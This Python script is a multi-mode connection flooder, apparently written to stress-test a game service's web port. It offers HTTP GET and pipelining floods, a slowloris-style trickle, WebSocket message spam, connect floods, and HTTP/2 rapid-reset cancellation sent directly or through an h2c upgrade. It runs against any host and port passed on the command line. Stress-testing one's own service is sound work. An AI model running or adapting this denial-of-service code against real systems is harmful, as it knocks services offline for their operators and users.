"""One process that floods the port of the page for some seconds: ``KIND HOST PORT CONNECTIONS SECONDS``.

It steps back behind all other processes (nice), so that what the tables lose is what the flood costs the dealer.
"""

import os
import socket
import sys
import time
from collections.abc import Iterator
from contextlib import suppress

#: Of the system's 19 steps.
POLITENESS = 10

GET = b"GET / HTTP/1.1\r\nHost: here\r\n\r\n"
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + bytes.fromhex("000000040000000000")
UPGRADE = (
    b"GET / HTTP/1.1\r\nHost: here\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\n"
    b"HTTP2-Settings: AAMAAABkAAQAAP__\r\n\r\n" + PREFACE
)
#: The headers of ``GET /`` at ``here``, as HPACK writes them.
HEADERS = bytes.fromhex("828684") + b"\x41\x04here"
FRAMES_AT_ONCE = 50
#: A WebSocket of the page for people, and a message on it.
SOCKET = (
    b"GET /play/socket HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n"
    b"Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n"
)
HELLO = b'{"type":"hello","token":""}'
MESSAGE = b"\x81" + bytes([0x80 | len(HELLO)]) + bytes(4) + HELLO
LAST_STREAM = 2**31 - 1


def rapid_resets() -> Iterator[bytes]:
    """Requests of HTTP/2 that are cancelled at once, many in each piece."""
    stream = 1
    while stream < LAST_STREAM - 2 * FRAMES_AT_ONCE:
        piece = b""
        for _ in range(FRAMES_AT_ONCE):
            number = stream.to_bytes(4, "big")
            piece += len(HEADERS).to_bytes(3, "big") + b"\x01\x05" + number + HEADERS
            piece += b"\0\0\4\3\0" + number + b"\0\0\0\x08"
            stream += 2
        yield piece


def pieces(kind: str) -> Iterator[bytes]:
    """What one connection sends, piece after piece; it waits for the answer to a piece only if ``WAITS`` says so."""
    match kind:
        case "idle":
            yield GET
        case "get" | "connect":
            while True:
                yield GET
        case "pipeline":
            while True:
                yield GET * 100
        case "trickle":
            yield b"GET / HTTP/1.1\r\nHost: here\r\nX: "
            while True:
                yield b"x"
        case "socket":
            yield SOCKET
            while True:
                yield MESSAGE
        case "reset":
            yield PREFACE
            yield from rapid_resets()
        case "upgrade":
            yield UPGRADE
            yield from rapid_resets()


#: Kinds that send the next piece when something has come back.
WAITS = ("get", "socket")


class Attacker:
    """One connection, opened again whenever it ends."""

    def __init__(self, kind: str, address: tuple[str, int]) -> None:
        self._kind, self._address = kind, address
        self._sock: socket.socket | None = None

    def step(self) -> None:
        """Do the next thing that does not wait."""
        try:
            if self._sock is None:
                self._open()
            else:
                self._go_on(self._sock)
        except BlockingIOError:
            pass
        except OSError:
            self._close()

    def _open(self) -> None:
        self._sock = sock = socket.socket()
        sock.setblocking(False)
        self._pieces, self._unsent, self._waits = pieces(self._kind), b"", False
        with suppress(BlockingIOError):
            sock.connect(self._address)

    def _go_on(self, sock: socket.socket) -> None:
        try:
            if not sock.recv(1 << 20):
                self._close()
                return
            self._waits = False
            if self._kind == "connect":
                self._close()
                return
        except BlockingIOError:
            pass
        if not self._unsent and not self._waits:
            self._unsent = next(self._pieces, b"")
            self._waits = self._kind in WAITS or self._kind == "connect"
        if self._unsent:
            self._unsent = self._unsent[sock.send(self._unsent) :]

    def _close(self) -> None:
        if self._sock is not None:
            self._sock.close()
            self._sock = None


def main(kind: str, host: str, port: int, connections: int, seconds: float) -> None:
    os.nice(POLITENESS)
    attackers = [Attacker(kind, (host, port)) for _ in range(connections)]
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        for attacker in attackers:
            attacker.step()


if __name__ == "__main__":
    main(sys.argv[1], sys.argv[2], int(sys.argv[3]), int(sys.argv[4]), float(sys.argv[5]))
